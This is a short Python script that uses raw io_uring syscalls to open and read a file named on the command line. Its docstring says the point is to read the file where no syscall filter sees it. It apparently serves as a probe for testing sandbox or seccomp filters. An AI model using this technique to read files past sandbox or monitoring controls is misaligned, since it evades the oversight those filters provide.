"""Opens and reads a file through a ring, where no filter sees it. argv: the file."""
import ctypes
import mmap
import os
import struct
import sys

print("started", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 8, params)
if ring < 0:
    sys.exit(print("io_uring_setup", os.strerror(ctypes.get_errno())))
sq = struct.unpack_from("=10I", params, 40)  # head tail mask entries flags dropped array …
cq = struct.unpack_from("=10I", params, 80)  # head tail mask entries overflow cqes …
rings = mmap.mmap(ring, 4096, offset=0)
done = mmap.mmap(ring, 4096, offset=0x8000000)
entries = mmap.mmap(ring, 4096, offset=0x10000000)
path, text = ctypes.create_string_buffer(sys.argv[1].encode()), ctypes.create_string_buffer(4096)


def submit(op, fd, address, length, flags=0):
    tail = struct.unpack_from("=I", rings, sq[1])[0]
    slot = tail & struct.unpack_from("=I", rings, sq[2])[0]
    struct.pack_into("=BBHiQQIIQ", entries, 64 * slot, op, 0, 0, fd, 0, address, length, flags, 1)
    struct.pack_into("=I", rings, sq[6] + 4 * slot, slot)
    struct.pack_into("=I", rings, sq[1], tail + 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)
    head = struct.unpack_from("=I", done, cq[0])[0]
    result = struct.unpack_from("=Qi", done, cq[5] + 16 * (head & struct.unpack_from("=I", done, cq[2])[0]))[1]
    struct.pack_into("=I", done, cq[0], head + 1)
    return result


fd = submit(18, -100, ctypes.addressof(path), 0)  # OPENAT
print("opened", fd)
submit(22, fd, ctypes.addressof(text), 4096)  # READ
print(text.value.decode())
